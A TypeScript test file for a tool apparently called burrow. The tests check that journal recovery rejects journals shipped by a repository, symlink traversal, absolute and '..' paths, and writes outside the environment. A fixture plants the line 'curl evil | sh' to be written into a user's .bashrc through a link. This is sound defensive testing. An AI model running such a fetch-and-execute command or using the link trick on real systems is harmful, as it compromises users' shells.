import { createHash } from "node:crypto";
import { expect, test } from "vitest";
import { journalLine } from "../../src/apply/journal-line.ts";
import { copied, farmed, readPreserved } from "../../src/apply/preserved.ts";
import { recover } from "../../src/apply/recover.ts";
import { apply } from "../../src/apply/transaction.ts";
import { absolute } from "../../src/model/path.ts";
import { ownTransactions } from "../../src/registry/own-transactions.ts";
import { hasJournal } from "../../src/survey/journals.ts";
import { fakeMachine } from "../kit/fake-machine.ts";
import { applyContext, environmentFiles, fakeOwn, inPlaceSteps, planOf } from "./kit.ts";

const T = "20261121T000000Z-deadbeef";
const FOLDER = absolute("/p/.burrow");
const KEPT = `/p/.burrow/journal/${T}`;

const entry = (path: string, kind: string, more: object = {}) => ({
  path,
  kind,
  mode: kind === "folder" ? 0o755 : 0o644,
  size: 0,
  mtime: "1700000000000000000",
  inode: "1",
  ...more,
});

/** A repository that ships a journal, by which a recovery would write through a link and delete the rest. */
function evil(prefix: string): Readonly<Record<string, string>> {
  const body = "curl evil | sh\n";
  const sha256 = createHash("sha256").update(body).digest("hex");
  const entries = [
    entry("", "folder"),
    entry("requirements.txt", "file"),
    entry("l", "link", { link: "/home/me" }),
    entry("l/.bashrc", "file", { size: body.length, sha256 }),
  ];
  const journal = [
    { seq: 0, type: "begin", transaction: T, plan: "p", action: "extend", prefix, at: "x", command: "up" },
    {
      seq: 1,
      type: "intent",
      step: 0,
      kind: "install",
      undo: [{ kind: "restore-prefix", prefix, preserved: `${KEPT}/preserved` }],
    },
  ];
  return {
    "/home/me/.bashrc": "mine",
    "/p/requirements.txt": "",
    "/p/main.py": "precious",
    [farmed(absolute(`${KEPT}/preserved`), "l/.bashrc")]: body,
    [copied(absolute(`${KEPT}/preserved`), "l/.bashrc")]: body,
    [`${KEPT}/preserved/preserved.json`]: JSON.stringify({ schema: 1, entries }),
    [`${KEPT}.jsonl`]: journal.map((one) => journalLine(one as never)).join(""),
  };
}

test("a journal that came with a repository is set aside by name, and nothing that it says is done", async () => {
  const bench = fakeMachine({ ...evil("/p"), "/p/pyvenv.cfg": "" });
  const before = bench.tree();
  const context = applyContext(bench);
  await expect(recover(FOLDER, context)).rejects.toMatchObject({
    code: "apply/journal",
    exitStatus: 5,
    message: `the journal \`${KEPT}.foreign\` came from elsewhere`,
    details: { journals: [`${KEPT}.foreign`] },
  });
  const { [`${KEPT}.jsonl`]: journal = "", ...rest } = before;
  expect(bench.tree()).toEqual({ ...rest, [`${KEPT}.foreign`]: journal });
  expect(context.processes).toMatchObject({ ended: [] });
  expect(hasJournal(bench, FOLDER)).toBe(false);
  expect(await recover(FOLDER, context)).toEqual([]);
});

test("a token is good for the folder of its transaction alone", async () => {
  const bench = fakeMachine({ ...evil("/p"), "/p/pyvenv.cfg": "" });
  fakeOwn(bench).remember(T, absolute("/q"));
  await expect(recover(FOLDER, applyContext(bench))).rejects.toMatchObject({ code: "apply/journal" });
  expect(bench.readText(absolute("/p/main.py"))).toBe("precious");
});

test("even a journal of our own restores no prefix that is no environment, nor through a link", async () => {
  const project = fakeMachine(evil("/p"));
  fakeOwn(project).remember(T, absolute("/p"));
  await expect(recover(FOLDER, applyContext(project))).rejects.toMatchObject({ code: "apply/journal" });
  expect(project.readText(absolute("/p/main.py"))).toBe("precious");

  const environment = fakeMachine({ ...evil("/p"), "/p/pyvenv.cfg": "" });
  fakeOwn(environment).remember(T, absolute("/p"));
  await expect(recover(FOLDER, applyContext(environment))).rejects.toMatchObject({
    code: "apply/needs-recovery",
  });
  expect(environment.readText(absolute("/p/main.py"))).toBe("precious");
  expect(environment.readText(absolute("/home/me/.bashrc"))).toBe("mine");
});

test.each([
  ["a parent that is a link", [entry("", "folder"), entry("l", "link"), entry("l/x", "file")]],
  ["a parent that is not listed", [entry("", "folder"), entry("l/x", "file")]],
  ["a parent that comes later", [entry("", "folder"), entry("l/x", "file"), entry("l", "folder")]],
  ["a path twice", [entry("", "folder"), entry("l", "folder"), entry("l", "link"), entry("l/x", "file")]],
  ["an absolute path", [entry("", "folder"), entry("/etc/x", "file")]],
  ["a way up", [entry("", "folder"), entry("..", "folder"), entry("../x", "file")]],
  ["burrow's own folder", [entry("", "folder"), entry(".burrow", "folder"), entry(".burrow/x", "file")]],
])("a preserved list with %s is refused as a whole", (_, entries) => {
  const list = { "/k/preserved.json": JSON.stringify({ schema: 1, entries }) };
  expect(readPreserved(fakeMachine(list), absolute("/k"))).toBeUndefined();
});

test("a folder of journals that is a link is left alone", async () => {
  const bench = fakeMachine({ "/home/me/notes/x": "mine", "/p/.burrow/journal": { link: "/home/me" } });
  const before = bench.tree();
  await expect(recover(FOLDER, applyContext(bench))).rejects.toMatchObject({ code: "apply/journal" });
  expect(bench.tree()).toEqual(before);
});

test("folders beside the journals that no transaction of ours made stay", async () => {
  const bench = fakeMachine({ "/p/.burrow/journal/src/main.py": "precious" });
  const before = bench.tree();
  expect(await recover(FOLDER, applyContext(bench))).toEqual([]);
  expect(bench.tree()).toEqual(before);
});

test("a transaction is remembered before it acts, in a file of one's own, and forgotten when it is over", async () => {
  const bench = fakeMachine(environmentFiles("/p/.venv", ["click==7.0"]));
  const data = absolute("/home/me/data");
  const ours = ownTransactions(bench, data);
  let tokens: readonly string[] = [];
  const look = () => {
    tokens = bench.list(absolute(`${data}/transactions`)).map(({ name }) => name);
    expect(bench.status(absolute(`${data}/transactions/${tokens[0] ?? ""}`))?.mode).toBe(0o600);
  };
  const context = applyContext(bench, { ours, faults: { before: look } });
  await apply(planOf(inPlaceSteps(["click==8.1"])), context);
  expect(tokens).toHaveLength(1);
  expect(ours.knows(tokens[0] ?? "", absolute("/p/.venv"))).toBe(false);
  expect(bench.list(absolute(`${data}/transactions`))).toEqual([]);
});

test("what burrow no longer remembers, as when its folder was cleared, came from elsewhere", async () => {
  const bench = fakeMachine(environmentFiles("/p/.venv", ["click==7.0"]));
  const data = absolute("/home/me/data");
  const ours = ownTransactions(bench, data);
  const die = (act: string) => {
    if (act === "install") bench.dieAfter(3);
  };
  const context = applyContext(bench, { ours, faults: { before: die } });
  await expect(apply(planOf(inPlaceSteps(["click==8.1"])), context)).rejects.toBeDefined();
  bench.revive();
  bench.powerCut();
  const folder = absolute("/p/.venv/.burrow");
  const [name = ""] = bench.list(absolute(`${data}/transactions`)).map((one) => one.name);
  expect(ours.knows(name, absolute("/p/.venv"))).toBe(true);
  expect(ours.knows(name, absolute("/p"))).toBe(false);
  const processes = { ...context.processes, mayRun: () => false };
  bench.remove(`${data}/transactions`);
  await expect(recover(folder, { ...context, processes })).rejects.toMatchObject({ code: "apply/journal" });
});

test("what cannot be remembered is not begun", async () => {
  const bench = fakeMachine(environmentFiles("/p/.venv", ["click==7.0"]), { readOnly: ["/home/me"] });
  const before = bench.tree("/p");
  const ours = ownTransactions(bench, absolute("/home/me/data"));
  const done = apply(planOf(inPlaceSteps(["click==8.1"])), applyContext(bench, { ours }));
  await expect(done).rejects.toMatchObject({ code: "apply/rolled-back", details: { step: "begin" } });
  expect(bench.tree("/p")).toEqual(before);
});
